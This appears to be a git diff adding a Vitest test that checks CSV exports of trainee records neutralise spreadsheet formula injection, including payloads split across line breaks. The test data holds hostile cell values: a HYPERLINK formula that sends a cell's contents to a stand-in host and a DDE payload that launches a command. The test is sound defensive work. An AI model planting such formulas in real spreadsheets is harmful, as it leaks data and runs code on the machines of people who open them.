@@ -2,7 +2,7 @@ import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
 import { SKILL_IDS } from '../../src/core/skills.ts';
 import { BEAT_COLUMNS, beatsCsv, DRILL_COLUMNS, drillsCsv } from '../../src/records/csv.ts';
-import { sampleRecords } from '../fixtures/debrief/records.ts';
+import { sampleRecord, sampleRecords } from '../fixtures/debrief/records.ts';
 
 function rows(csv: string): Record<string, string>[] {
   const parsed = Papa.parse<Record<string, string>>(csv, { header: true, skipEmptyLines: true });
@@ -49,6 +49,18 @@ describe('CSV exports', () => {
     const back = rows(beatsCsv(records, 'vi'));
     const formula = back.find((r) => r.answer?.includes('HYPERLINK'))!;
     expect(formula.answer?.startsWith("'=")).toBe(true);
+  });
+
+  it('keeps a formula from running when the cell also holds a line break, on any line', () => {
+    const typed = ['=HYPERLINK("http://x.example/?"&A1,"open")\nchưa xác nhận', 'chưa xác nhận\r\n+1+cmd|/C calc', 'ok\r@SUM(1)', '\n-2+3'];
+    const hostile = typed.map((text, i) => sampleRecord(10 + i, `=trainee ${i}\n@x`, text));
+    for (const csv of [beatsCsv(hostile, 'vi'), drillsCsv(hostile, 'vi')]) {
+      const cells = rows(csv).flatMap((row) => Object.values(row));
+      const lines = cells.flatMap((cell) => cell.split(/\r\n|\n|\r/));
+      expect(lines.filter((line) => /^[=+\-@\t\r]/.test(line) && !/^-?\d+(\.\d+)?$/.test(line))).toEqual([]);
+    }
+    const answers = rows(beatsCsv(hostile, 'vi')).filter((r) => r.response === 'text').map((r) => r.answer);
+    expect(answers).toEqual(["'=HYPERLINK(\"http://x.example/?\"&A1,\"open\")\nchưa xác nhận", "chưa xác nhận\r\n'+1+cmd|/C calc", "ok\r'@SUM(1)", "'\n'-2+3"]);
   });
 
   it('writes header words in the reader’s language when given them', () => {
